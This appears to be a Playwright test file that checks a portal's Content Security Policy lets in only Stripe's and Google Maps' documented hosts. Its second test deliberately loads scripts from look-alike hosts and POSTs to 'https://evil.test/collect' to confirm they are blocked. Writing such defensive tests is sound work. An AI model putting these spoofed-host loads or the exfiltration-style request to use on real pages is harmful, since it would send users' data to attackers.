import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { freePort } from '@leafshift/remote-kit/ports/require-free-port';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { launchChromium } from '../../tools/browser/launch-chromium.ts';
import type { ManagedProcess } from '../../tools/process/managed-process.ts';
import { type ControlledStack, connectToStack } from '../../tools/start/stack-control.ts';
import { startGateway } from '../../tools/start/start-gateway.ts';
import { openVisitor, type Visitor } from '../support/visitor.ts';

/** Where each vendor's guide says that its code, frames and data come from. */
const VENDOR_HOSTS =
  /^https:\/\/(?:(?:b\.)?js|hooks|api)\.stripe\.com\/|^https:\/\/(?:maps|places)\.googleapis\.com\//;

/** Does what Stripe's guide says of Stripe.js: frames for fields and banks, parts of its own, calls. */
const STRIPE_JS = `
  const frame = (src) => {
    const one = document.createElement('iframe');
    one.src = src;
    one.style.border = '0px';
    document.body.append(one);
  };
  frame('https://js.stripe.com/v3/controller.html');
  frame('https://b.js.stripe.com/v3/elements-inner-card.html');
  frame('https://hooks.stripe.com/3d_secure_2/hosted');
  const part = document.createElement('script');
  part.src = 'https://b.js.stripe.com/v3/fingerprinted.js';
  document.head.append(part);
  fetch('https://api.stripe.com/v1/payment_methods', { method: 'POST' });
  window.Stripe = () => ({});
`;

/** Does what Google's loader does for a look-up of addresses: a policy, parts, a call, a picture. */
const GOOGLE_MAPS = `
  const policy = trustedTypes.createPolicy('google-maps-api-loader', {
    createScriptURL: (address) => address,
  });
  const part = document.createElement('script');
  part.src = policy.createScriptURL('https://maps.googleapis.com/maps-api-v3/api/js/places.js');
  document.head.append(part);
  fetch('https://places.googleapis.com/$rpc/AutocompletePlaces', { method: 'POST' });
  const picture = new Image();
  picture.src = 'https://maps.googleapis.com/maps/api/staticmap?zoom=14';
  document.body.append(picture);
`;

const SCRIPTS: Readonly<Record<string, string>> = {
  'https://js.stripe.com/v3': STRIPE_JS,
  'https://b.js.stripe.com/v3/fingerprinted.js': 'window.loadedParts = ["stripe"];',
  'https://maps.googleapis.com/maps/api/js': GOOGLE_MAPS,
  'https://maps.googleapis.com/maps-api-v3/api/js/places.js': 'window.loadedParts = ["google"];',
};

interface Watched {
  violations?: string[];
  loadedParts?: string[];
}

describe('the scripts of the payment provider and of the maps, under the page’s policy', () => {
  let stack: ControlledStack;
  let browser: Browser;
  let portal: ManagedProcess;
  let port: number;

  beforeAll(async () => {
    stack = await connectToStack();
    browser = await launchChromium();
    port = await freePort();
    portal = await startGateway({
      port,
      apiUrl: stack.apiUrl,
      registryFolder: join(stack.dataDir, 'registry'),
      logs: join(stack.dataDir, 'logs/vendors'),
      env: {
        ...process.env,
        NODE_ENV: 'development',
        NODE_OPTIONS: '',
        STRIPE_PUBLISHABLE_KEY: 'pk_test',
        GOOGLE_MAPS_KEY: 'key',
      },
    });
  });
  afterAll(async () => {
    await browser?.close();
    await portal?.stop();
  });

  /** Stands in for the vendors, and for anybody else who might be asked. */
  async function answerForVendors(context: BrowserContext, asked: string[]): Promise<void> {
    await context.route(/^https:/, async (route) => {
      const url = route.request().url();
      asked.push(url);
      const address = url.split('?', 1)[0] ?? '';
      const headers = { 'access-control-allow-origin': '*' };
      const script = SCRIPTS[address];
      if (script) {
        await route.fulfill({ contentType: 'text/javascript', headers, body: script });
      } else {
        await route.fulfill({ contentType: 'text/html', headers, body: '<p></p>' });
      }
    });
  }

  async function open(expectedProblems: readonly RegExp[] = []) {
    const portalUrl = `http://localhost:${port}`;
    const visitor = await openVisitor(browser, { portalUrl, expectedProblems });
    const asked: string[] = [];
    await answerForVendors(visitor.context, asked);
    await visitor.context.addInitScript(() => {
      const violations: string[] = [];
      Object.assign(window, { violations });
      document.addEventListener('securitypolicyviolation', (event) => {
        violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
      });
    });
    await visitor.page.goto('/login');
    await visitor.page.locator('h1').first().waitFor();
    return { visitor, asked };
  }

  /** As the vendors' loaders do it: a script element of the page's own code. */
  const load = (page: Page, address: string): Promise<void> =>
    page.evaluate((src) => {
      const script = document.createElement('script');
      script.src = src;
      document.head.append(script);
    }, address);
  const partsOf = (page: Page) =>
    page.waitForFunction(() => (window as Watched).loadedParts).then((found) => found.jsonValue());
  const violationsOf = async ({ page }: Visitor) => {
    await page.waitForLoadState('networkidle');
    return page.evaluate(() => (window as Watched).violations);
  };

  it.each([
    [
      'Stripe.js',
      'https://js.stripe.com/v3',
      'stripe',
      [
        'https://js.stripe.com/v3',
        'https://js.stripe.com/v3/controller.html',
        'https://b.js.stripe.com/v3/elements-inner-card.html',
        'https://hooks.stripe.com/3d_secure_2/hosted',
        'https://b.js.stripe.com/v3/fingerprinted.js',
        'https://api.stripe.com/v1/payment_methods',
      ],
    ],
    [
      'the loader of Google’s maps',
      'https://maps.googleapis.com/maps/api/js',
      'google',
      [
        'https://maps.googleapis.com/maps/api/js',
        'https://maps.googleapis.com/maps-api-v3/api/js/places.js',
        'https://places.googleapis.com/$rpc/AutocompletePlaces',
        'https://maps.googleapis.com/maps/api/staticmap?zoom=14',
      ],
    ],
  ])('%s gets all that its guide names', async (_, address, part, needed) => {
    const { visitor, asked } = await open([/status of/]);

    await load(visitor.page, address);

    expect(await partsOf(visitor.page)).toEqual([part]);
    expect(await violationsOf(visitor)).toEqual([]);
    expect(asked.toSorted()).toEqual(needed.toSorted());
    expect(asked.every((url) => VENDOR_HOSTS.test(url))).toBe(true);
    await visitor.close();
  });

  it('nobody else gets in beside them, whatever the name looks like', async () => {
    const { visitor, asked } = await open([/Content Security Policy|No scripts come|TypeError/]);
    const { page } = visitor;
    const others = [
      'https://js.stripe.com.evil.test/v3',
      'https://evil-js.stripe.com/v3',
      'https://checkout.stripe.com/v3',
      'https://apis.google.com/js/api.js',
    ];
    for (const address of others) {
      await expect(load(page, address)).rejects.toThrow(/No scripts come/);
    }
    await page.evaluate(() => {
      for (const src of ['https://www.google.com/maps/embed', 'https://m.stripe.network/inner']) {
        const frame = document.createElement('iframe');
        frame.src = src;
        document.body.append(frame);
      }
      fetch('https://evil.test/collect', { method: 'POST' }).catch(() => undefined);
    });

    await page.waitForFunction(() => (window as Watched).violations?.length === 3);
    expect((await violationsOf(visitor))?.toSorted()).toEqual([
      'connect-src https://evil.test/collect',
      'frame-src https://m.stripe.network',
      'frame-src https://www.google.com',
    ]);
    expect(asked).toEqual([]);
    await visitor.close();
  });
});
